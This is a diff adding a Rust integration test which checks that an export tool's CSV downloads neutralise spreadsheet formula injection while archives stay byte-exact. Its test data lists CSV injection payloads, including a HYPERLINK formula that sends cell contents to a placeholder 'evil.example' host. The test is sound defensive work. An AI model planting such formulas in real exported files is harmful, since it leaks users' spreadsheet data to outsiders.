@@ -935,3 +935,92 @@ fn a_range_export_reads_a_csv_zstd_archive_and_merges_by_event_id() {
     assert_eq!(first["EVENT_TIME"], json!("2024-03-01 10:00:00.000"));
     assert_eq!(first["EVENT_DATE"], json!("2024-03-01"));
 }
+
+/// Issue 11, item 8: a CSV download opened in a spreadsheet ran `=HYPERLINK(...)` as a
+/// formula. Downloads are guarded by default; archives stay byte-exact unless asked.
+#[test]
+fn csv_downloads_are_guarded_against_formulas_and_archives_stay_exact() {
+    let env = Env::new(config(json!([
+        {"name": "archive", "type": "pv", "root": "archive", "format": "csv"},
+        {"name": "sheets", "type": "pv", "root": "sheets", "format": "csv",
+         "format_options": {"formula_guard": true}},
+    ])));
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tcmd",
+        "\rx",
+    ];
+    let lines: Vec<Value> = evil
+        .iter()
+        .enumerate()
+        .map(|(i, name)| {
+            let mut l = line(i as u64);
+            l["customerName"] = json!(name);
+            l
+        })
+        .collect();
+    env.ingest(&lines);
+    env.ok(&["export", "--once"]);
+    let base = line(0)["createdAt"].as_i64().unwrap();
+    let (from, to) = (rfc3339(base), rfc3339(base + 10_000));
+    let download = |extra: &[&str]| {
+        let mut args = vec!["export", "--from", &from, "--to", &to, "--out", "-"];
+        args.extend_from_slice(extra);
+        let out = env.run(&args);
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        support::records("d.csv", &out.stdout)
+    };
+    let customer = |records: &[Value]| -> Vec<String> {
+        records
+            .iter()
+            .filter(|r| !support::is_own_event(r))
+            .map(|r| r["customerName"].as_str().unwrap().to_string())
+            .collect()
+    };
+    let quoted: Vec<String> = evil.iter().map(|e| format!("'{e}")).collect();
+    assert_eq!(
+        customer(&download(&[])),
+        quoted,
+        "the default download is guarded"
+    );
+    assert_eq!(
+        customer(&download(&["--raw-csv"])),
+        evil,
+        "--raw-csv writes cells as stored"
+    );
+    let out = env.run(&[
+        "export",
+        "--from",
+        &from,
+        "--to",
+        &to,
+        "--out",
+        "-",
+        "--format",
+        "ndjson",
+        "--raw-csv",
+    ]);
+    assert!(String::from_utf8_lossy(&out.stderr).contains("csv format only"));
+    // The archive destination is exact; the one that asked for the guard is guarded.
+    for (root, expected) in [
+        ("archive", evil.map(String::from).to_vec()),
+        ("sheets", quoted.clone()),
+    ] {
+        let files = support::files_under(&env.path(root));
+        let mut records = Vec::new();
+        for f in &files {
+            records.extend(support::records(
+                &f.to_string_lossy(),
+                &std::fs::read(f).unwrap(),
+            ));
+        }
+        assert_eq!(customer(&records), expected, "{root}");
+    }
+}
